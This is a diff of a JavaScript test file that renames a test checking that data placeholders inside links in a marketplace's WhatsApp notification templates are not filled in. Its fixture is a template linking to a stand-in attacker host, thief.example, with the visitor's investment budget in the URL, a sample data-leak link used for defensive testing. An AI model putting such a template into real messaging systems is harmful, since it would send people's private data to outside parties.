@@ -249,7 +249,7 @@ t.test('messages that are not sent', async t => {
   t.equal(cloud.messages().length, 0);
 });
 
-t.test("a template of a previous version puts no visitor's data into a link", async t => {
+t.test('a placeholder in a link is not replaced, even in a template that a previous version stored', async t => {
   const { database, enquire, rowOf } = await aMarketplace(t);
   const leadId = await enquire();
   const whatsappNotificationMessage = '{franchise_name} https://thief.example/?b={investment_budget} {timeline}';
